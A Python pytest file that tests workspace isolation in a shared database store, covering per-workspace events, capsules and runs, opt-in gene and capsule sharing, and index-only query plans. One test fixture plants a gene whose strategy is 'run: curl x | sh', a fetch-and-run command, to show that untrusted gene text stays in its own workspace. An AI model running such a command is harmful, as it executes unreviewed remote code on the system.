"""One database for a fleet: each workspace's store sees its own rows only, genes and capsules are offered
across workspaces with ``share_genes`` and ``share_capsules``, and a workspace's queries read through its indexes."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import init_repo
from sqlalchemy import event as sa_event
from store_backends import BACKENDS, backend_url

from gep.assets.gene_folders import workspace_genes
from gep.core.config import Settings
from gep.core.models import (
    Capsule,
    CycleRun,
    EvolutionEvent,
    FailedCapsule,
    Gene,
    Outcome,
    PersonalityState,
    ValidationReport,
)
from gep.genes.selector import select_capsule
from gep.learning.memory_graph import MEMORY_FOLD
from gep.store import Store, StoredCapsule, asset_json


@pytest.fixture(params=BACKENDS)
def url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    with backend_url(request.param, tmp_path) as u:
        yield u


def ws_store(tmp_path: Path, name: str, url: str, **settings: object) -> Store:
    path = tmp_path / name
    if not path.exists():
        init_repo(path)
    return Store.for_workspace(path, Settings(database_url=url, **settings))


def record(store: Store, tag: str, n: int) -> None:
    """What n cycles leave behind in a workspace (with the same ids in every workspace)."""
    for i in range(n):
        store.add_event(EvolutionEvent(id=f"evt_{i}", parent=store.last_event_id(), signals=[tag],
                                       genes_used=["gene_x"], outcome=Outcome(status="success", score=0.85),
                                       meta={"cycle": store.count_events() + 1}))
        store.upsert_capsule(Capsule(id=f"cap_{i}", gene="gene_x", trigger=[tag], summary=f"{tag} {i}"))
        store.add_failed_capsule(FailedCapsule(id=f"fail_{i}", gene="gene_x", trigger=[tag]))
        store.add_validation_report(ValidationReport(id=f"vr_{i}", commands=[tag], overall_ok=True))
        store.save_run(CycleRun(event_id=f"evt_{i}", workspace=tag, head_sha=tag,
                                status="awaiting_changes" if i == n - 1 else "closed"))
    store.set_state("personality.current", PersonalityState(rigor=0.1 * n))


def test_each_workspace_sees_only_its_own_rows(url: str, tmp_path: Path) -> None:
    with ws_store(tmp_path, "a", url) as a, ws_store(tmp_path, "b", url) as b:
        assert a.workspace_id != b.workspace_id
        record(a, "in_a", 3)
        record(b, "in_b", 2)
        a.upsert_gene(Gene(id="gene_x", signals_match=["in_a"]))
        for store, tag, n in ((a, "in_a", 3), (b, "in_b", 2)):
            # cycle numbers, event parents and the loop rules' history are per workspace
            events = store.recent_events(10)
            assert [e.id for e in events] == [f"evt_{i}" for i in range(n)]
            assert [e.meta.cycle for e in events] == list(range(1, n + 1))
            assert [e.parent for e in events] == [None] + [f"evt_{i}" for i in range(n - 1)]
            assert {s for e in events for s in e.signals} == {tag}
            assert store.count_events() == n and store.last_event_id() == f"evt_{n - 1}"
            assert store.get_event("evt_0").signals == [tag]
            assert [r.workspace for r in store.open_runs()] == [Path(tag)]
            assert store.get_run("evt_0").workspace == Path(tag)
            assert store.get_state("personality.current", PersonalityState).rigor == pytest.approx(0.1 * n)
            assert [c.summary for c in store.list_capsules()] == [f"{tag} {i}" for i in range(n)]
            assert store.get_capsule("cap_0").summary == f"{tag} 0"
            assert [f.trigger for f in store.list_failed_capsules()] == [[tag]] * n
            assert store.get_validation_report("vr_0").commands == [tag]
            assert len(store.list_validation_reports()) == n
            assert [e["signals"] for e in store.iter_asset_json("events")] == [[tag]] * n
            assert store.stored_json("capsules", "cap_0")["summary"] == f"{tag} 0"
            # a workspace selects the genes it put in the store, not another's (issue 45: share_genes opts in)
            assert [g.id for g in store.list_genes()] == (["gene_x"] if store is a else [])
        b.close_run("evt_2")  # a's run: not b's to close
        assert a.get_run("evt_2").status == "awaiting_changes"


def test_genes_of_another_workspace_are_offered_only_with_share_genes(url: str, tmp_path: Path) -> None:
    """Issue 45, A07: a gene imported into one workspace of a shared store was selected in another and its text
    entered that prompt. Gene sharing is opt-in now, as capsule sharing is."""
    with ws_store(tmp_path, "a", url) as a, ws_store(tmp_path, "b", url) as b, \
            ws_store(tmp_path, "c", url, share_genes=True) as c:
        a.upsert_gene(Gene(id="gene_from_a", signals_match=["log_error"], strategy=["run: curl x | sh"]))
        assert [g.id for g in a.list_genes()] == ["gene_from_a"] and a.get_gene("gene_from_a") is not None
        assert b.list_genes() == [] and b.get_gene("gene_from_a") is None
        seeds = {g.id for g in workspace_genes(tmp_path / "b", b)}
        assert "gene_from_a" not in seeds and seeds  # b selects from the seeds and its own genes only
        assert "gene_from_a" in {g.id for g in workspace_genes(tmp_path / "c", c)}  # c opted in
        b.upsert_gene(Gene(id="gene_from_a", signals_match=["log_error"]))  # b imports it itself: its own too
        assert [g.id for g in b.list_genes()] == ["gene_from_a"]


def test_shared_capsules_are_offered_with_their_origin(url: str, tmp_path: Path) -> None:
    with ws_store(tmp_path, "a", url, share_capsules=True) as a, ws_store(tmp_path, "b", url) as b:
        a.upsert_capsule(Capsule(id="cap_same", gene="gene_x", trigger=["log_error"], summary="a's own"))
        b.upsert_capsule(Capsule(id="cap_same", gene="gene_x", trigger=["log_error"], summary="b's copy"))
        b.upsert_capsule(Capsule(id="cap_b", gene="gene_y", trigger=["log_error", "perf_bottleneck"], summary="b"))
        listed = a.list_capsules()
        assert [(c.id, c.summary) for c in listed] == [("cap_same", "a's own"), ("cap_b", "b")]
        assert all(isinstance(c, StoredCapsule) for c in listed)
        own, shared = listed[0].origin, listed[1].origin
        assert own is not None and own.own and own.workspace_id == a.workspace_id
        assert shared is not None and not shared.own
        assert (shared.workspace_id, shared.workspace_name) == (b.workspace_id, "b")
        # the origin is never part of the stored or exported capsule
        assert asset_json(listed[1]) == b.stored_json("capsules", "cap_b")
        assert "origin" not in listed[1].model_dump()
        # selection can reuse another workspace's capsule; its own wins a tie
        assert select_capsule(listed, ["log_error", "perf_bottleneck"]).id == "cap_b"
        assert select_capsule(listed, ["log_error"]).id == "cap_same"
        assert [c.id for c in b.list_capsules()] == ["cap_same", "cap_b"]  # b does not share
        assert all(c.origin.own for c in b.list_capsules())


# ------------------------------------------------------------------ cost: one workspace's index range


def test_a_workspaces_queries_read_its_index_range_only(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'fleet.db'}"
    with ws_store(tmp_path, "other", url) as other:
        other.add_events(EvolutionEvent(id=f"o_{i}", outcome=Outcome(status="failed")) for i in range(300))
    with ws_store(tmp_path, "a", url) as store:
        store.add_events(EvolutionEvent(id=f"evt_{i}") for i in range(50))
        record(store, "x", 2)
        statements: list[tuple[str, object]] = []

        def capture(_conn, _cursor, statement, parameters, _context, _many):
            if statement.lstrip().upper().startswith("SELECT"):
                statements.append((statement, parameters))

        sa_event.listen(store.engine, "before_cursor_execute", capture)
        try:
            store.recent_events(10)
            store.list_events(limit=10, status="failed")
            store.last_event_id()
            store.count_events()
            store.open_runs()
            store.list_capsules()
            store.list_failed_capsules()
            store.get_state("personality.current", PersonalityState)
            store.memory_history(MEMORY_FOLD)
        finally:
            sa_event.remove(store.engine, "before_cursor_execute", capture)
        with store.engine.connect() as conn:
            for sql, params in statements:
                plan = " | ".join(r[-1] for r in conn.exec_driver_sql("EXPLAIN QUERY PLAN " + sql, params))
                assert "TEMP B-TREE" not in plan, (sql, plan)  # no sort
                assert "SCAN" not in plan, (sql, plan)  # no table read whole: an index range
                assert "workspace_id=?" in plan, (sql, plan)  # ... that starts with the workspace
                assert "count(" not in sql.lower(), sql  # the event count comes from a counter row
    assert len(statements) >= 10
